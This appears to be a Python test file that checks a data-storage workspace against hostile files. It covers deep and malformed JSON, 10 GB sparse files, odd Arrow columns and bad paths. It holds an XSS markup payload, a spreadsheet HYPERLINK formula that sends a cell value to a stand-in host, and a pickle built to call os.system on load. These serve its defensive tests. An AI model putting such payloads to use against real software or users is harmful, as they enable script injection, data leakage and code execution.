"""What stands in files that anybody may have written: bounded in time and memory, shown as text, never run."""

from __future__ import annotations

import csv
import io
import json
import os
import pickle
import re
import resource
import subprocess
import sys
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest

from storage import BadInput, Corrupt, StorageError, Workspace, check_workspace
from tests.faults.specimen import KINDS, answers, changed, command, look_round, told
from tests.storage.hostile import Calls
from tests.storage.samples import add_foreign_part

DOCUMENTS = [
    "manifest", "run_config.json", "run_summary.json", "pipeline.json", "metrics.json", "archive.json", "template",
    "library metadata", "trash.json",
]  # fmt: skip
DEEP = 200_000


def hostile(document: str) -> dict[str, str]:
    """Texts that a document may be replaced by."""
    first = next(iter(json.loads(document)))
    return {
        "NaN": document.replace("{", '{"extra": NaN,', 1),
        "infinite": document.replace("{", '{"extra": -Infinity, "more": 1e999,', 1),
        "twice": document.replace("{", f'{{"{first}": null,', 1),
        "deep list": "[" * DEEP + "]" * DEEP,
        "deep object": '{"a":' * DEEP + "1" + "}" * DEEP,
        "deep inside": document.replace("{", '{"extra": ' + "[" * DEEP + "]" * DEEP + ",", 1),
        "huge number": document.replace("{", '{"extra": ' + "9" * 100_000 + ",", 1),
        "huge numbers": document.replace(": 1,", ": " + "9" * 5_000 + ","),
        "not text": "\ud800",
        "a list": "[1, 2, 3]",
        "a number": "7",
        "numbers for texts": json.dumps(dict.fromkeys(json.loads(document), 3)),
        "texts for all": json.dumps(dict.fromkeys(json.loads(document), "x")),
        "nulls": json.dumps(dict.fromkeys(json.loads(document))),
        "lists for all": json.dumps({name: [[]] for name in json.loads(document)}),
    }


def test_hostile_documents_are_findings_or_shown_and_nothing_escapes(root: Path) -> None:
    """All documents at once, each with its own version of every text."""
    before = told(root)
    kept = {item for item in before if item.split()[0] in ("arrays", "result") or item.endswith("_wheat")}
    paths = [KINDS[name].file(root) for name in DOCUMENTS if name not in ("manifest", "metrics.json")]
    paths.append(next(root.glob("runs/*_study/0002*/metrics.json")))  # of one whose pipeline.json is whole
    texts = {path: hostile(path.read_text()) for path in paths}
    for name in texts[paths[0]]:
        for path in paths:
            path.write_bytes(texts[path][name].encode(errors="surrogatepass"))
        assert "unchecked" not in {one.code for one in check_workspace(root, deep=True).findings}, name
        assert not changed(before, told(root)) & kept, name
    for name in ("NaN", "deep object", "numbers for texts"):
        for path in paths:
            path.write_bytes(texts[path][name].encode(errors="surrogatepass"))
        assert set(look_round(root)) == {0}
    with Workspace.open(root) as workspace:
        answers(workspace)


def test_a_hostile_manifest_shows_what_is_known(root: Path) -> None:
    path = root / "catalog/manifest.json"
    for name, text in hostile(path.read_text()).items():
        path.write_bytes(text.encode(errors="surrogatepass"))
        assert "unchecked" not in {one.code for one in check_workspace(root).findings}, name
        with Workspace.open(root, read_only=True) as workspace:
            assert len(workspace.runs()) == 2, name


def test_a_hostile_marker_is_a_sentence(root: Path) -> None:
    marker = root / "runshelf.json"
    for text in hostile(marker.read_text()).values():
        marker.write_bytes(text.encode(errors="surrogatepass"))
        check_workspace(root)
        with suppress(StorageError), Workspace.open(root, read_only=True):
            pass


def test_a_document_of_any_size_is_refused_before_it_is_read(root: Path) -> None:
    """10 GB each, most of it holes: memory would not hold one of them."""
    other = next(root.glob("runs/*_study/0002*/metrics.json"))  # of one whose pipeline.json can be read
    for path in (*(KINDS[name].file(root) for name in (*DOCUMENTS, "part of meta")), other):
        with path.open("r+b") as file:
            file.truncate(10 * 1024**3)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    found = {one.code for one in check_workspace(root).findings}
    assert {KINDS[name].code for name in DOCUMENTS if name != "manifest"} <= found
    with Workspace.open(root, read_only=True) as workspace:
        answers(workspace)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 1024 * 1024  # kB


MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>"
TAG = re.compile(r"(?<!\\)<(script|img)")  # Markdown shows what stands after a backslash
FORMULA = '=HYPERLINK("http://x/?"&A1,"look")'


def test_markup_and_formulas_are_text_wherever_they_come_out(root: Path, tmp_path: Path) -> None:
    with Workspace.open(root) as workspace:
        (one, *_) = workspace.catalog.ids("run_name = 'study'")
        workspace.catalog.annotate([one], notes=MARKUP, add_tags=[FORMULA[:20]])
        run = next(run.run_id for run in workspace.runs() if run.run_name == "study")
    config = next(root.glob("runs/*_study/run_config.json"))
    config.write_text(config.read_text().replace("<b>first</b>", MARKUP.replace('"', "'")))
    pipeline = KINDS["pipeline.json"].file(root)
    document = json.loads(pipeline.read_text())
    pipeline.write_text(json.dumps({**document, "name": FORMULA, "model_type": MARKUP, "created_by": MARKUP}))
    with Workspace.open(root) as workspace:
        workspace.sync(full=True)
        for path in (*workspace.report_run(run), *workspace.report_dataset("corn")):
            text = path.read_text()
            assert not TAG.search(text), path.name
        exported = workspace.export_pipeline(run, document["id"], name="hostile")
        assert not TAG.search((exported / "README.md").read_text())
        session = workspace.export_session_report(run_ids=[run])
        assert not TAG.search(session.read_text())
    table = tmp_path / "out.csv"
    assert command("catalog", "export", table, "-w", root)[0] == 0
    cells = [cell for row in csv.reader(io.StringIO(table.read_text())) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert any("HYPERLINK" in cell for cell in cells)


LOOKING = """
import sys
found = []
def hook(event, arguments):
    if event in ("pickle.find_class", "os.system", "subprocess.Popen", "exec", "marshal.loads") and not started:
        found.append((event, str(arguments)[:200]))
started = [True]
sys.addaudithook(hook)
from pathlib import Path
from storage import Workspace, check_workspace
from tests.faults.test_links import everything
from tests.faults.specimen import answers
root = Path(sys.argv[1])
for name in ("pandas", "pyarrow.parquet", "sklearn.pipeline", "joblib", "matplotlib.figure"):
    __import__(name)
with Workspace.open(root, read_only=True) as workspace:
    answers(workspace)
started.clear()
check_workspace(root, deep=True)
with Workspace.open(root) as workspace:
    answers(workspace), workspace.check(deep=True), workspace.usage(), workspace.session_report()
    for run in workspace.runs():
        for row in workspace.pipelines(run.run_id):
            try:
                workspace.foresee(run.run_id, row.pipeline_id)
            except Exception as error:
                assert type(error).__module__ == "storage.errors", repr(error)
    for item in workspace.library.list():
        workspace.library.verify(item.kind, item.name)
found = [one for one in found if one[0] == "pickle.find_class" or one[0].startswith(("os.", "sub"))]
print(found, flush=True)
"""


def test_looking_never_unpickles(root: Path) -> None:
    """Every artifact is replaced by a pickle that makes a file, its digest in the documents too."""
    canary = root.parent / "canary"
    poison = pickle.dumps(Calls(os.system, f"touch '{canary}'"))
    for path in [*root.rglob("*.pkl"), *root.rglob("*.npy")]:
        path.write_bytes(poison)
    child = subprocess.run(
        [sys.executable, "-c", LOOKING, str(root)], capture_output=True, text=True, check=False, timeout=300
    )
    assert child.stdout == "[]\n", child.stdout + child.stderr[-2000:]
    assert not canary.exists()


ODD_COLUMNS: dict[str, Callable[[], pa.Table]] = {
    "a metric beyond 2**53": lambda: pa.table({"prediction_id": [ODD_ID], "test_rmse": [2**63 - 1]}),
    "a seed beyond 2**63": lambda: pa.table({"prediction_id": [ODD_ID], "seed": pa.array([2**64 - 1], pa.uint64())}),
    "a seed that is a float": lambda: pa.table({"prediction_id": [ODD_ID], "seed": [1e300]}),
    "bytes": lambda: pa.table({"prediction_id": [ODD_ID], "dataset_name": pa.array([b"\xff"]), "config": [b"\xff"]}),
    "structs": lambda: pa.table({"prediction_id": [ODD_ID], "config": [{"a": 1}], "run_name": [{"b": [1]}]}),
    "times of no year": lambda: pa.table(
        {"prediction_id": [ODD_ID], "run_id": ["r"], "created_at": pa.array([2**62], pa.timestamp("us"))}
    ),
    "text that is none": lambda: pa.table({"prediction_id": [ODD_ID], "run_name": no_text()}),
}
ODD_ID = "01a2270e-0000-7000-8000-000000000001"


def no_text() -> pa.Array:
    places, content = pa.py_buffer(b"\x00\0\0\0\x02\0\0\0"), pa.py_buffer(b"\xff\xfe")
    return pa.Array.from_buffers(pa.string(), 1, [None, places, content])


@pytest.mark.parametrize("odd", ODD_COLUMNS.values(), ids=ODD_COLUMNS)
def test_values_of_another_program_that_can_not_be_kept_harm_no_other(root: Path, odd: Callable[[], pa.Table]) -> None:
    before = told(root)
    add_foreign_part(root, "meta", odd())
    assert set(look_round(root)) == {0}
    assert {one for one in before if one[:6] == "result"} <= set(told(root))
    with Workspace.open(root) as workspace:
        assert workspace.catalog.find(ODD_ID) is not None
        workspace.catalog.search()
        workspace.catalog.runs()
        workspace.session_report()
        workspace.catalog.export(root.parent / "rows.csv")
        with suppress(StorageError):
            workspace.catalog.compact()
        assert not [one for one in workspace.check(deep=True).findings if one.code == "unchecked"]


def test_what_no_number_or_path_can_be_is_refused_in_a_sentence(root: Path) -> None:
    large = 10**30
    with Workspace.open(root) as workspace:
        catalog, run = workspace.catalog, workspace.runs()[0].run_id
        asks: list[Callable[[], object]] = [
            lambda: catalog.best("test_rmse", n=large),
            lambda: catalog.rows([large]),
            lambda: workspace.pipelines(run, limit=large),
            lambda: workspace.plan_thin(large, "test_rmse"),
            lambda: catalog.export(root.parent / "a\0b.csv"),
            lambda: Workspace.create(root.parent / "a\0b"),
            lambda: Workspace.create(root.parent / "\ud800"),
        ]
        for ask in asks:
            with pytest.raises(StorageError):
                ask()


@pytest.mark.parametrize("odd", [{"fold": [10**30, 0]}, {"sample_index": [2**63, 1]}, {"y_true": [10**400, 1]}])
def test_predictions_that_can_not_be_kept_are_refused_before_anything_is_written(
    root: Path, odd: dict[str, list[int]]
) -> None:
    with Workspace.open(root) as workspace:
        run = workspace.create_run("odd")
        pipeline = run.add_pipeline({"k": 1})
        pipeline.save_metrics({"test": {"rmse": 1.0}})
        with pytest.raises(BadInput):
            pipeline.save_predictions(pd.DataFrame({"y_true": [1.0, 2.0], "y_pred": [1.0, 2.0], **odd}))
        pipeline.save_predictions(pd.DataFrame({"y_true": [1.0, 2.0], "y_pred": [1.0, 2.0]}))
        pipeline.complete()
        run.finalize()
        assert not [one for one in workspace.check(deep=True).findings if "odd" in one.place]


@pytest.mark.skipif(os.name == "nt", reason="there are no pipes among files")
def test_data_that_is_a_pipe_or_has_no_text_for_a_name_is_refused(root: Path, tmp_path: Path) -> None:
    os.mkfifo(pipe := tmp_path / "pipe.csv")
    for data, name in ((pipe, ""), (tmp_path / os.fsdecode(b"d\xff.csv"), ""), (pipe, "\udcff")):
        code, said = command(
            "run", data, "--target", "protein", "--pipelines", tmp_path / "r.yaml", "--run-name", name, "-w", root
        )
        assert code == 2 and said


def test_arrays_of_another_program_that_are_none_are_told_of(root: Path) -> None:
    odd = {"partition": ["val"], "n_targets": [2**62], "sample_indices": [[0, 1]], "y_true": [[1.0, 2.0]]}
    add_foreign_part(root, "meta", pa.table({"prediction_id": [ODD_ID]}))
    add_foreign_part(root, "data", pa.table({"prediction_id": [ODD_ID], "y_pred": [[1.0, 2.0]], **odd}))
    with Workspace.open(root) as workspace:
        with pytest.raises(Corrupt, match=ODD_ID):
            workspace.catalog.arrays(ODD_ID)
        assert [one for one in workspace.catalog.ids() if one != ODD_ID and workspace.catalog.arrays(one)]
